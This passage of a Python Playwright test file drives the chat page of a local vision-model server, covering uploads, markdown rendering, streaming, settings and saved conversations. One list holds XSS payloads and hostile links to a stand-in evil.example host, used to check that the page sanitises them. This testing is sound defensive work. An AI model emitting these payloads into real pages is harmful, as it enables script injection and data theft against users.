"""The server's page, driven in a real headless Chromium; skipped where Playwright or Chromium is missing.

Answers are the demo model's, except where a test needs what that model cannot say: hostile markdown, errors, progress.
"""

import base64
import json
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import ROOT
from PIL import Image

from llama3v_mlx.demo import IMAGES, SIGLIP
from llama3v_mlx.evaluate import served
from llama3v_mlx.features.library import Library

sync_api = pytest.importorskip("playwright.sync_api")
expect = sync_api.expect
expect.set_options(timeout=60_000)  # no verdict hangs on the machine's speed
CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")

pytestmark = [pytest.mark.browser, pytest.mark.skipif(not CHROMIUM, reason="no Chromium")]

CHAT = "**/v1/chat/completions"
STARS, CROSS, CIRCLES = (
    IMAGES / name for name in ("two-red-stars.jpg", "one-purple-cross.jpg", "three-blue-circles.png")
)

BAD_NAME = "<img src=x onerror=alert(1)>\u202egnp.png"

# Dispatch a drop or paste of files, given as [name, type, base64].
TRANSFER = """([kind, files]) => {
    const transfer = new DataTransfer();
    for (const [name, type, data] of files)
        transfer.items.add(new File([Uint8Array.from(atob(data), (c) => c.charCodeAt(0))], name, {type}));
    const options = {dataTransfer: transfer, clipboardData: transfer, bubbles: true, cancelable: true};
    document.activeElement.dispatchEvent(
        kind === "drop" ? new DragEvent(kind, options) : new ClipboardEvent(kind, options));
}"""

# Answer chats from `answers`, a list of controllers of streams: a test says what comes, and when.
STREAMS = """() => {
    const send = window.fetch;
    window.answers = [];
    window.fetch = (path, options) => {
        if (path !== "/v1/chat/completions") return send(path, options);
        const stream = new ReadableStream({start(controller) {
            options.signal.addEventListener("abort", () => controller.error(options.signal.reason));
            answers.push({say: (text) => controller.enqueue(new TextEncoder().encode(text))});
        }});
        return Promise.resolve(new Response(stream));
    };
}"""


@pytest.fixture(scope="module")
def pictures(tmp_path_factory) -> Path:
    """A library's folder: the demo's pictures, a large one, one with a bad name, and two pages."""
    folder = tmp_path_factory.mktemp("pictures") / "pictures"
    shutil.copytree(IMAGES, folder)
    Image.new("RGB", (2400, 1200), "navy").save(folder / "wide.png")
    Image.new("RGB", (60, 60), "red").save(folder / BAD_NAME)
    pages = [Image.new("L", (300, 400), 200), Image.open(CIRCLES).convert("RGB")]
    pages[0].save(folder / "paper.pdf", save_all=True, append_images=pages[1:])
    return folder


@pytest.fixture(scope="module")
def address(pictures: Path, tmp_path_factory) -> Iterator[str]:
    index = tmp_path_factory.mktemp("index") / "index"
    Library(pictures, str(SIGLIP), index).update()
    library = ("--library", pictures, "--library-index", index)
    with served("llama3v_mlx.server", "--temp", "0", *library, cwd=ROOT) as (server, port, _):
        assert server.poll() is None
        yield f"http://127.0.0.1:{port}/"


@pytest.fixture(scope="module")
def browser() -> Iterator:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture
def page(browser, address: str) -> Iterator:
    """The page in a browser that has kept nothing; no script may fail, and nothing be asked of another server."""
    context = browser.new_context(viewport={"width": 1000, "height": 800})
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = context.new_page()
    page.set_default_timeout(60_000)
    wrong = []
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("console", lambda message: wrong.append(message.text) if "Content Security" in message.text else None)
    page.on("request", lambda r: None if r.url.startswith((address, "data:", "blob:")) else wrong.append(r.url))
    page.goto(address)
    yield page
    context.close()
    assert not wrong


def transfer(page, kind: str, *files: Path | tuple[str, str, bytes]) -> None:
    """Drop or paste files, each a path or (name, type, bytes)."""
    files = [(f.name, f"image/{f.suffix[1:]}", f.read_bytes()) if isinstance(f, Path) else f for f in files]
    page.evaluate(TRANSFER, [kind, [(name, form, base64.b64encode(data).decode()) for name, form, data in files]])


def drop(page, *paths: Path) -> None:
    transfer(page, "drop", *paths)
    page.locator("#waiting img").nth(len(paths) - 1).wait_for()


def question(page):
    return page.get_by_role("textbox", name="Question", exact=True)


def button(page, name: str):
    return page.get_by_role("button", name=name, exact=True)


def ask(page, text: str) -> None:
    question(page).fill(text)
    page.keyboard.press("Enter")


def answer(page, text: str) -> str:
    """Ask by keyboard, and read the answer when it is complete."""
    ask(page, text)
    finished(page)
    return page.locator(".answer .markdown").last.inner_text()


def finished(page) -> None:
    expect(page.locator(".human").last).to_be_visible()
    expect(page.locator(".answer").last).to_have_attribute("aria-busy", "false")


def stream(text: str, end: str = "data: [DONE]\n\n") -> str:
    """An answer as the server streams it."""
    return f"data: {json.dumps({'choices': [{'delta': {'content': text}}]})}\n\n{end}"


def answer_with(page, text: str) -> None:
    """Have the model say `text`, whatever it is asked."""
    page.unroute(CHAT)
    page.route(CHAT, lambda route: route.fulfill(body=stream(text), content_type="text/event-stream"))


def refuse_with(page, status: int, message: str) -> None:
    page.route(CHAT, lambda route: route.fulfill(status=status, json={"error": {"message": message}}))


def sent(request) -> dict:
    return json.loads(request.post_data)


# Asking.


def test_images_and_turns(page) -> None:
    drop(page, STARS)
    assert answer(page, "What is this image?") == "Two red stars on a yellow background."
    expect(page.locator(".figures")).to_contain_text("first token")
    assert answer(page, "What color is the background?") == "The background is yellow."
    with page.expect_file_chooser() as chosen:
        button(page, "Add images").click()
    chosen.value.set_files(CROSS)
    page.locator("#waiting img").wait_for()
    assert answer(page, "What is this image?").startswith("One purple cross")
    page.locator(".answer").last.get_by_role("button", name="Copy").click()
    assert page.evaluate("navigator.clipboard.readText()").startswith("One purple cross")
    button(page, "New conversation").click()
    assert page.locator("article").count() == 0
    expect(question(page)).to_be_focused()


def test_several_images(page) -> None:
    """Dropped, pasted and picked: asked about in the order in which they came."""
    transfer(page, "drop", STARS, CROSS)
    transfer(page, "paste", CIRCLES)
    page.locator("#files").set_input_files([STARS, CROSS])
    expect(page.locator("#waiting img")).to_have_count(5)
    button(page, f"Remove {CROSS.name}").first.click()
    answer_with(page, "Four.")
    with page.expect_request(CHAT) as request:
        assert answer(page, "") == "Four."
    content = sent(request.value)["messages"][0]["content"]
    urls = [part["image_url"]["url"] for part in content[:-1]]
    assert [base64.b64decode(url.partition(",")[2]) for url in urls] == [
        path.read_bytes() for path in (STARS, CIRCLES, STARS, CROSS)
    ]
    assert content[-1] == {"type": "text", "text": "What are these images?"}
    assert page.locator("#waiting img").count() == 0


def test_text_is_pasted_as_text(page) -> None:
    """A table copied from a spreadsheet comes as text and as a picture of it."""
    page.evaluate("""() => {
        const transfer = new DataTransfer();
        transfer.items.add(new File(["x"], "table.png", {type: "image/png"}));
        transfer.setData("text/plain", "1\\t2");
        const event = new ClipboardEvent("paste", {clipboardData: transfer, bubbles: true, cancelable: true});
        window.pasted = document.activeElement.dispatchEvent(event);
    }""")
    assert page.evaluate("pasted") and page.locator("#waiting figure").count() == 0


def test_files_that_are_no_images(page) -> None:
    transfer(page, "drop", ("notes.txt", "text/plain", b"text"), STARS)
    expect(page.get_by_role("alert")).to_contain_text("notes.txt: only images and PDF files can be added")
    expect(page.locator("#waiting img")).to_have_count(1)
    button(page, "Dismiss").click()
    expect(page.get_by_role("alert")).to_have_count(0)


def test_heic_and_pdf(page) -> None:
    """Chromium shows neither: their names stand for them, and their bytes are sent under their type."""
    assert {".heic", ".pdf"} <= set(page.locator("#files").get_attribute("accept").split(","))
    heic, pdf = b"heic" * 10**6, b"%PDF-1.7"  # the larger one is read first, all the same
    transfer(page, "drop", ("IMG_1.HEIC", "", heic), ("plan.pdf", "application/pdf", pdf))
    expect(page.locator("#waiting .file")).to_have_text(["IMG_1.HEIC", "plan.pdf"])
    refuse_with(page, 400, "messages[0].content[1].image_url: image data: not an image")
    with page.expect_request(CHAT) as request:
        ask(page, "What is it?")
    parts = sent(request.value)["messages"][0]["content"]
    assert [part["image_url"]["url"] for part in parts[:-1]] == [
        "data:image/heic;base64," + base64.b64encode(heic).decode(),
        "data:application/pdf;base64," + base64.b64encode(pdf).decode(),
    ]
    expect(page.locator(".error span")).to_have_text("plan.pdf: not an image")
    expect(page.locator(".human .file")).to_have_text(["IMG_1.HEIC", "plan.pdf"])


def test_what_the_model_sees(page) -> None:
    drop(page, STARS)
    button(page, "What the model sees").click()
    expect(page.locator("figure .grid rect")).to_have_count(4)
    expect(page.locator("figcaption")).to_contain_text("505×433: the whole at 56×56, 2×2 slices")
    grid, image = (page.locator(f"figure {name}").bounding_box() for name in (".grid", "img"))
    assert grid == image
    button(page, "What the model sees").click()
    assert page.locator("figure .grid").count() == 0
    button(page, f"Enlarge {STARS.name}").click()
    expect(page.locator("#zoom img")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#zoom")).to_be_hidden()
    button(page, f"Remove {STARS.name}").click()
    assert page.locator("figure").count() == 0
    transfer(page, "drop", ("broken.png", "image/png", b"not a PNG"))
    button(page, "What the model sees").click()
    expect(page.locator("figcaption")).to_contain_text("image")  # the server's words


# Markdown.


MARKDOWN = r"""# Title

Some **bold**, *italic*, ***both***, ~~gone~~ and `a*b*c` with \*stars\*, 2 * 3 and snake_case_name
on a second line.

1. one
   - inner `code`
     more of it
2. two

- [x] done
- [ ] open

| Name | Count |
|:-----|------:|
| a \| b | **1** |
| c | 2 |

> A quote
> of *two* lines

---

```python
if a < b:
    print("<b>")
```

[Apple](https://apple.com/mac), https://example.org/a_(b). and ![a cat](https://example.org/cat.png)
"""


def test_markdown(page) -> None:
    answer_with(page, MARKDOWN)
    answer(page, "Hello")
    shown = page.locator(".markdown")
    children = shown.evaluate("e => [...e.children].map((child) => child.tagName)")
    assert children == ["H2", "P", "OL", "UL", "DIV", "BLOCKQUOTE", "HR", "DIV", "P"]
    for tag, texts in {
        "h2": ["Title"],
        "strong": ["bold", "both", "1"],
        "em": ["italic", "both", "two"],
        "del": ["gone"],
        "p code": ["a*b*c", "code"],
        "ol > li": ["one\ninner code\nmore of it", "two"],
        "ol > li > ul > li": ["inner code\nmore of it"],
        ":scope > ul > li": ["☑ done", "☐ open"],
        "th": ["Name", "Count"],
        "td": ["a | b", "1", "c", "2"],
        "blockquote": ["A quote\nof two lines"],
        "pre": ['if a < b:\n    print("<b>")'],
        "a": ["Apple", "https://example.org/a_(b)", "a cat"],
        "bdi": ["(https://apple.com/mac)", "(https://example.org/cat.png)"],
    }.items():
        assert [re.sub("\n+", "\n", t).strip() for t in shown.locator(tag).all_inner_texts()] == texts, tag
    assert "with *stars*, 2 * 3 and snake_case_name\non a second" in shown.locator("p").first.inner_text()
    assert shown.locator("td").nth(1).evaluate("e => getComputedStyle(e).textAlign") == "right"
    for link in shown.locator("a").all():
        assert link.get_attribute("rel") == "noopener noreferrer" and link.get_attribute("target") == "_blank"
    shown.locator(".code").get_by_role("button", name="Copy").click()
    assert page.evaluate("navigator.clipboard.readText()") == 'if a < b:\n    print("<b>")'


def test_markdown_while_it_grows(page) -> None:
    """Every beginning of an answer is drawn, and finished blocks stay the elements that they are."""
    page.evaluate(STREAMS)
    ask(page, "Hello")
    page.evaluate("(text) => answers[0].say(text)", stream("First\n\nSecond", ""))
    expect(page.locator(".markdown p")).to_have_count(2)
    page.locator(".markdown p").first.evaluate("(e) => { e.dataset.old = 1; }")
    page.evaluate("(text) => answers[0].say(text)", stream(" **and", ""))
    expect(page.locator(".markdown p").last).to_have_text("Second **and")
    page.evaluate("(text) => answers[0].say(text)", stream(" more**\n\n```\ncode"))
    finished(page)
    assert page.locator(".markdown p").first.get_attribute("data-old") == "1"
    expect(page.locator(".markdown strong")).to_have_text("and more")
    expect(page.locator(".markdown pre")).to_have_text("code")


HOSTILE = [
    "<img src=x onerror=alert(1)>\n<b>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```<img/src=x/onerror=alert(1)>\ncode",
    "`</code><img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | c |",
    "# <img src=x onerror=alert(1)>\n> <style>*{display:none}</style>\n- <form action=//evil.example><button>Go",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](<java\tscript:alert(1)>) [d](\x01javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [b](vbscript:x) [c](blob:x) [d](file:///etc/passwd)",
    '[a](https://evil.example/"onmouseover="alert(1)) [b](https://evil.example/ "x" onclick=alert(1))',
    "![x](https://evil.example/pixel.png?secret) ![y](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[https://apple.com](https://evil.example/) [a](https://apple.com@evil.example/) https://apple.com@evil.example/",
    "[\u202ehttps://elppa.com](https://evil.example/\u202emoc.elppa)",
    "<https://evil.example/'onmouseover='alert(1)> <a href=javascript:alert(1)>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "[a]: javascript:alert(1)\n[a]\n\n<!-- --><math><mtext><mglyph><style></math><img src onerror=alert(1)>",
    "</div></main><base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
]
TAGS = "A BDI BLOCKQUOTE BR BUTTON CODE DEL DIV EM H2 HR LI OL P PATH PRE SPAN STRONG SVG TABLE TBODY TD TH THEAD TR UL"
ELEMENTS = """(e) => [...e.querySelectorAll(".markdown *")].map((e) =>
    [e.tagName, Object.fromEntries([...e.attributes].map(({name, value}) => [name, value]))])"""
NAMES = "class role tabindex aria-label aria-hidden title type href rel target start style d viewBox"


def test_hostile_markdown(page) -> None:
    """Nothing that a model writes becomes an element, an attribute or an address of its own choosing."""
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for text in HOSTILE:
        answer_with(page, text)
        shown = answer(page, text)
        assert "".join(c for c in shown if c not in " \n\t") or text.startswith("<br"), text
        for tag, attributes in page.locator(".answer").last.evaluate(ELEMENTS):
            assert tag.upper() in TAGS.split() and set(attributes) <= set(NAMES.split()), (text, tag, attributes)
            assert re.match("https?://", attributes.get("href", "https://")), (text, attributes)
    assert not dialogs
    targets = [text.strip() for text in page.locator(".markdown bdi").all_inner_texts()]
    assert "(https://evil.example/)" in targets  # of the link that says https://apple.com
    assert not [link for link in page.locator(".markdown a").all() if "@" in link.get_attribute("href")]
    title = page.locator("#chats a").inner_text()
    assert title == HOSTILE[0].replace("\n", " ") and page.locator("#chats img").count() == 0


def test_markdown_of_any_length_is_drawn(page) -> None:
    """No text takes a time that grows out of proportion, or nests too deeply."""
    patterns = ["*a ", "**a", "_a_b", "`" * 3 + " ", "[", "![a](", "[a](b ", "> ", "- ", "|", "~~a", "<br", "https://"]
    answer_with(page, "\n\n".join(pattern * 10_000 for pattern in patterns))
    answer(page, "Hello")
    expect(page.locator(".markdown > *")).to_have_count(len(patterns))
    button(page, "New conversation").click()
    for text in ("> " * 2000 + "x", "|a" * 500 + "|\n" + "|-" * 500 + "|\n" + "|b|\n" * 2000):
        answer_with(page, text)
        answer(page, "Hello")
        assert page.locator(".answer").last.evaluate("e => e.querySelectorAll('*').length") < 10_000
    nested = "\n".join("  " * i + "- x" for i in range(500))
    answer_with(page, nested)
    assert answer(page, "Hello").count("x") == 500


def test_policy(browser, address: str) -> None:
    """The browser itself refuses HTML from text, foreign images and foreign connections, whatever the page did."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(address)
    page.evaluate("""async () => {
        const refused = new Set(), note = (what) => { document.body.title = [...refused.add(what)].sort().join(" "); };
        addEventListener("securitypolicyviolation", ({effectiveDirective}) => note(effectiveDirective));
        try { document.body.innerHTML = "<b>"; } catch { note("HTML"); }
        new Image().src = "http://127.0.0.2:9/pixel.png";
        document.body.append(Object.assign(document.createElement("iframe"), {src: "http://127.0.0.2:9/"}));
        await fetch("http://127.0.0.2:9/").catch(() => {});
    }""")
    refused = "HTML connect-src frame-src img-src require-trusted-types-for"
    expect(page.locator("body")).to_have_attribute("title", refused)
    context.close()


# While an answer is written, and when it fails.


def test_progress_and_stop(page) -> None:
    page.evaluate(STREAMS)
    transfer(page, "drop", STARS, CROSS)
    expect(page.locator("#waiting img")).to_have_count(2)
    ask(page, "")
    state = page.locator(".busy")
    expect(state).to_contain_text("Reading 2 images")
    page.evaluate("answers[0].say(': reading image 2 of 2, ti')")
    page.evaluate("answers[0].say('le 3 of 10\\r\\n\\r\\n: keepalive 5/10\\n\\n')")
    expect(state).to_contain_text("Reading image 2 of 2, tile 3 of 10")
    assert page.locator(".busy progress").evaluate("e => e.value") == pytest.approx(0.6)
    expect(page.locator("#status")).to_have_text("Reading image 2 of 2")
    page.evaluate("(text) => answers[0].say(text)", stream("Two ", ""))
    expect(page.locator(".markdown")).to_have_text("Two")
    expect(state).to_have_count(0)
    ask(page, "Wait")  # one answer at a time: it stays in its place
    expect(question(page)).to_have_value("Wait")
    assert page.evaluate("answers.length") == 1
    button(page, "Stop").click()
    expect(page.locator(".figures")).to_contain_text("stopped")
    expect(button(page, "Ask")).to_be_visible()
    expect(page.locator(".markdown")).to_have_text("Two")


def test_escape_stops(page) -> None:
    page.evaluate(STREAMS)
    ask(page, "Hello")
    expect(button(page, "Stop")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator(".figures")).to_have_text("stopped")


@pytest.mark.parametrize(
    ("end", "message"),
    [
        ('data: {"error": {"message": "no memory left"}}\n\n', "no memory left"),
        ('data: {"error": "no memory left"}\n\n', "no memory left"),
        ("", "The connection to the server broke off."),
    ],
)
def test_an_answer_that_fails_midway(page, end: str, message: str) -> None:
    page.route(CHAT, lambda r: r.fulfill(body=stream("Two red", end), content_type="text/event-stream"))
    assert answer(page, "Hello") == "Two red"
    expect(page.locator(".error span")).to_have_text(message)
    expect(page.locator("#status")).to_have_text(message)


def test_errors_are_said_in_place_and_nothing_is_lost(page) -> None:
    refuse_with(page, 400, "the prompt of 9 tokens is too long <b>")
    drop(page, STARS)
    ask(page, "What is this image?")
    expect(page.locator(".answer .error span")).to_have_text("the prompt of 9 tokens is too long <b>")
    page.unroute(CHAT)
    button(page, "Try again").click()
    expect(page.locator(".markdown")).to_have_text("Two red stars on a yellow background.")
    expect(page.locator(".error")).to_have_count(0)


def test_what_failed_is_not_sent_again(page) -> None:
    refuse_with(page, 400, "no")
    ask(page, "One")
    page.locator(".error").wait_for()
    page.unroute(CHAT)
    answer_with(page, "Three")
    with page.expect_request(CHAT) as request:
        answer(page, "Two")
    assert [message["content"][0]["text"] for message in sent(request.value)["messages"]] == ["Two"]


def test_a_server_that_comes_back(browser) -> None:
    """A conversation goes on with a server that was ended and started again."""
    context = browser.new_context()
    page = context.new_page()
    with served("llama3v_mlx.server", "--temp", "0", cwd=ROOT) as (_, port, _):
        page.goto(f"http://127.0.0.1:{port}/")
        drop(page, STARS)
        answer(page, "What is this image?")
    ask(page, "What color is the background?")
    expect(page.locator(".error span")).to_have_text("The server does not answer. Is it running?")
    command = [sys.executable, "-m", "llama3v_mlx.server", "--temp", "0", "--port", str(port)]
    server = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        while "serving" not in (line := server.stderr.readline()):
            assert line or server.poll() is None
        expect(button(page, "Try again")).to_be_visible()
        page.evaluate("async () => { for (;;) { try { return await fetch('/health'); } catch {} } }")
        button(page, "Try again").click()
        expect(page.locator(".markdown").last).to_have_text("The background is yellow.")
    finally:
        server.terminate()
        server.communicate()
    context.close()


def test_api_key(page) -> None:
    """Asked for when the server wants one, again when it was wrong, and kept until the tab is closed."""

    def check(route) -> None:
        if route.request.headers.get("authorization") == "Bearer secret":
            route.continue_()
        else:
            route.fulfill(status=401, json={"error": {"message": "wrong or missing API key"}})

    page.route("**/v1/**", check)
    page.reload()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("wrong or missing API key")
    page.keyboard.press("Escape")
    ask(page, "Hello")
    page.keyboard.type("guess")
    page.keyboard.press("Enter")
    expect(dialog.locator("input")).to_have_value("")
    expect(dialog).to_be_visible()
    dialog.locator("input").fill("secret")
    page.keyboard.press("Enter")
    finished(page)
    assert page.locator(".markdown").inner_text() and page.locator(".error").count() == 0
    expect(page.locator("#model")).to_have_text("llama3v-demo")
    page.reload()
    expect(page.locator("#model")).to_have_text("llama3v-demo")
    assert "secret" not in json.dumps(page.evaluate("({...localStorage})"))
    assert "secret" not in page.content()


# Settings.


def test_settings(page) -> None:
    """What was set is sent, and nothing else; and it is kept."""
    answer_with(page, "Hi")
    with page.expect_request(CHAT) as request:
        answer(page, "Hello")
    plain = sent(request.value)
    assert set(plain) <= {"model", "messages", "stream", "stream_options"}
    button(page, "Settings").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("System prompt").fill("Be brief.")
    dialog.get_by_label("Temperature").fill("0")
    dialog.get_by_label("Longest answer").fill("7")
    dialog.get_by_label("Tiles per image").fill("1")
    page.keyboard.press("Enter")
    expect(dialog).to_be_hidden()
    page.reload()
    page.locator("article").first.wait_for()
    with page.expect_request(CHAT) as request:
        answer(page, "Hello")
    body = sent(request.value)
    changed = {name: value for name, value in body.items() if name not in plain}
    assert changed == {"temperature": 0, "max_tokens": 7, "max_image_tiles": 1}
    assert [message["role"] for message in body["messages"]] == ["system", "user", "assistant", "user"]
    assert body["messages"][0]["content"] == "Be brief."
    drop(page, STARS)
    with page.expect_request("**/v1/tiles") as request:
        button(page, "What the model sees").click()
    assert sent(request.value)["max_image_tiles"] == 1
    button(page, "Settings").click()
    button(page, "Use defaults").click()
    button(page, "Save").click()
    with page.expect_request(CHAT) as request:
        answer(page, "Hello")
    assert set(sent(request.value)) == set(plain)


def test_settings_are_checked(page) -> None:
    model = {
        "id": "m",
        "context_length": 8192,
        "max_image_tiles": 10,
        "defaults": {"temperature": 0.6, "max_tokens": 1024},
    }
    page.route("**/v1/models", lambda route: route.fulfill(json={"data": [model]}))
    page.reload()
    expect(page.locator("#model")).to_have_text("m")
    button(page, "Settings").click()
    dialog = page.get_by_role("dialog")
    shown = {
        label: dialog.get_by_label(label).get_attribute("placeholder") for label in ("Temperature", "Longest", "Tiles")
    }
    assert shown == {"Temperature": "0.6", "Longest": "1024", "Tiles": "10"}
    for label, value in (("Temperature", "3"), ("Longest", "0"), ("Longest", "1.5"), ("Tiles", "11")):
        dialog.get_by_label(label).fill(value)
        button(page, "Save").click()
        assert not dialog.get_by_label(label).evaluate("e => e.validity.valid")
        expect(dialog).to_be_visible()
        dialog.get_by_label(label).fill("")
    dialog.get_by_label("Temperature").fill("1")
    button(page, "Cancel").click()
    assert page.evaluate("localStorage.settings") is None


# Conversations.


def test_conversations_are_kept(page, address: str) -> None:
    drop(page, STARS)
    answer(page, "What is this image?")
    button(page, "New conversation").click()
    answer_with(page, "Hi")
    answer(page, "Hello there")
    links = page.locator("#chats a")
    expect(links).to_have_text(["Hello there", "What is this image?"])
    page.reload()
    expect(links).to_have_text(["Hello there", "What is this image?"])
    expect(page.locator(".markdown")).to_have_text("Hi")
    links.last.click()
    expect(page.locator(".markdown")).to_have_text("Two red stars on a yellow background.")
    assert page.locator(".human img").evaluate("e => e.decode().then(() => e.naturalWidth)") == 505
    page.unroute(CHAT)
    assert answer(page, "What color is the background?") == "The background is yellow."  # the image is sent again
    button(page, "Rename What is this image?").click()
    page.get_by_role("dialog").get_by_role("textbox").fill("<b>Stars</b>")
    page.keyboard.press("Enter")
    expect(links).to_have_text(["<b>Stars</b>", "Hello there"])
    page.go_back()
    expect(page.locator(".markdown")).to_have_text("Hi")
    button(page, "Delete <b>Stars</b>").click()
    button(page, "Cancel").click()
    expect(links).to_have_count(2)
    button(page, "Delete <b>Stars</b>").click()
    button(page, "Delete").click()
    expect(links).to_have_text(["Hello there"])
    expect(page.locator("article")).to_have_count(2)
    button(page, "Delete Hello there").click()
    button(page, "Delete").click()
    expect(page.locator("article")).to_have_count(0)
    page.reload()
    expect(page.locator("#empty")).to_be_visible()
    assert links.count() == 0
    stored = (
        "transact('readonly', async (chats, images) => [await result(chats.count()), await result(images.count())])"
    )
    assert page.evaluate(stored) == [0, 0]


def test_regenerate_and_edit(page) -> None:
    """Every version of a question and of an answer stays within reach."""
    answer_with(page, "First")
    answer(page, "Hello")
    answer_with(page, "Second")
    button(page, "Answer again").click()
    expect(page.locator(".markdown")).to_have_text("Second")
    answer_with(page, "Third")
    answer(page, "And?")
    answer_with(page, "Fourth")
    page.locator(".human").first.hover()
    button(page, "Edit").first.click()
    page.get_by_role("textbox", name="Edited question").fill("Bye")
    with page.expect_request(CHAT) as request:
        page.keyboard.press("Enter")
    assert [message["content"][0]["text"] for message in sent(request.value)["messages"]] == ["Bye"]
    expect(page.locator(".markdown")).to_have_text("Fourth")
    page.reload()
    shown = page.locator(".human .text, .markdown")
    expect(shown).to_have_text(["Bye", "Fourth"])
    button(page, "Earlier version").click()
    expect(shown).to_have_text(["Hello", "Second", "And?", "Third"])
    page.locator(".answer").first.hover()
    page.locator(".answer").first.get_by_role("button", name="Earlier version").click()
    expect(shown).to_have_text(["Hello", "First"])
    expect(page.locator(".answer .actions")).to_contain_text("1/2")
    button(page, "Edit").click()
    page.keyboard.press("Escape")
    expect(shown).to_have_text(["Hello", "First"])


def test_answers_go_on_behind_another_conversation(page) -> None:
    page.evaluate(STREAMS)
    ask(page, "One")
    page.evaluate("(text) => answers[0].say(text)", stream("First", ""))
    expect(page.locator(".markdown")).to_have_text("First")
    button(page, "New conversation").click()
    ask(page, "Two")
    expect(page.locator(".busy")).to_be_visible()
    page.evaluate("(text) => answers[0].say(text)", stream(" and last"))
    page.evaluate("(text) => answers[1].say(text)", stream("Second"))
    expect(page.locator(".markdown")).to_have_text("Second")
    page.get_by_role("link", name="One").click()
    expect(page.locator(".markdown")).to_have_text("First and last")


def test_reload_while_an_answer_is_written(page) -> None:
    page.evaluate(STREAMS)
    drop(page, STARS)
    ask(page, "What is this image?")
    page.evaluate("""() => {
        const watch = async () => {
            const [chat] = await transact("readonly", (chats) => result(chats.getAll()));
            document.body.title = `stored: ${chat?.turns[1].text}`;
            requestAnimationFrame(watch);
        };
        watch();
    }""")
    expect(page.locator("body")).to_have_attribute("title", "stored: ")
    page.evaluate("(text) => answers[0].say(text)", stream("Two red", ""))
    expect(page.locator("body")).to_have_attribute("title", "stored: Two red")
    page.reload()
    expect(page.locator(".markdown")).to_have_text("Two red")
    expect(page.locator(".figures")).to_have_text("stopped")
    button(page, "Answer again").click()
    expect(page.locator(".markdown")).to_have_text("Two red stars on a yellow background.")


def test_two_tabs(page, address: str) -> None:
    """What one tab adds to a conversation is not overwritten by the other, and is listed there."""
    answer_with(page, "Hi")
    answer(page, "Hello")
    other = page.context.new_page()
    other.goto(page.url)
    answer_with(other, "Hi again")
    assert answer(other, "Hello again") == "Hi again"
    button(other, "Rename Hello").click()
    other.keyboard.type("Renamed")
    other.keyboard.press("Enter")
    expect(other.locator("#chats a")).to_have_text(["Renamed"])
    button(other, "New conversation").click()
    answer(other, "New")
    answer(page, "And?")
    count = "transact('readonly', (chats) => result(chats.get(current.id))).then(({turns}) => turns.length)"
    assert page.evaluate(count) == 6
    expect(page.locator("#chats a")).to_have_text(["Renamed"])
    page.evaluate("dispatchEvent(new Event('visibilitychange'))")
    expect(page.locator("#chats a")).to_have_text(["Renamed", "New"])


FULL = """IDBObjectStore.prototype.put = function () { throw new DOMException("full", "QuotaExceededError"); }"""


def test_full_storage(page) -> None:
    """It is said, the conversation goes on, and is kept as soon as there is room."""
    page.evaluate(f"() => {{ window.put = IDBObjectStore.prototype.put; {FULL} }}")
    drop(page, STARS)
    assert answer(page, "What is this image?").startswith("Two red stars")
    expect(page.get_by_role("alert")).to_contain_text("storage is full. Delete conversations to make room.")
    page.evaluate("() => { IDBObjectStore.prototype.put = window.put; }")
    answer(page, "What color is the background?")
    expect(page.get_by_role("alert")).to_have_count(0)
    page.reload()
    expect(page.locator(".markdown")).to_have_count(2)
    expect(page.locator(".human img")).to_have_count(1)


def test_no_storage(browser, address: str) -> None:
    """A browser that forbids storage still answers, and says what it does not keep."""
    context = browser.new_context()
    context.add_init_script("""
        for (const name of ["indexedDB", "localStorage", "sessionStorage"])
            Object.defineProperty(window, name, {get() { throw new DOMException("denied", "SecurityError"); }});
    """)
    page = context.new_page()
    page.goto(address)
    expect(page.get_by_role("alert")).to_contain_text("denied")
    drop(page, STARS)
    assert answer(page, "What is this image?").startswith("Two red stars")
    assert answer(page, "What color is the background?") == "The background is yellow."
    context.close()


# The library.


@pytest.fixture
def library(page):
    """The Library tab."""
    page.get_by_role("link", name="Library").click()
    expect(page.locator("#state")).to_contain_text(f"{len(list(IMAGES.iterdir())) + 4} pictures in pictures")
    return page


def find(page, text: str) -> None:
    page.get_by_role("searchbox").fill(text)
    page.locator("#found img[src]").first.wait_for()


def option(page, name: str):
    return page.get_by_role("option", name=name)


def rows_of(page) -> list[list[dict]]:
    """Boxes of the pictures found, by row."""
    rows: dict[int, list[dict]] = {}
    for item in page.get_by_role("option").all():
        box = item.bounding_box()
        rows.setdefault(round(box["y"]), []).append(box)
    return list(rows.values())


def names_waiting(page) -> list[str]:
    return page.locator("#waiting img").evaluate_all("images => images.map((image) => image.alt)")


def test_library_finds_and_shows(library) -> None:
    expect(library.get_by_role("heading", name="Search your pictures")).to_be_visible()
    expect(library.get_by_role("searchbox")).to_be_focused()
    find(library, "two red stars")
    first = library.get_by_role("option").first
    expect(first).to_have_attribute("title", STARS.name)
    expect(library.locator("#found img[src]")).to_have_count(library.get_by_role("option").count())
    first.click()
    dialog = library.get_by_role("dialog")
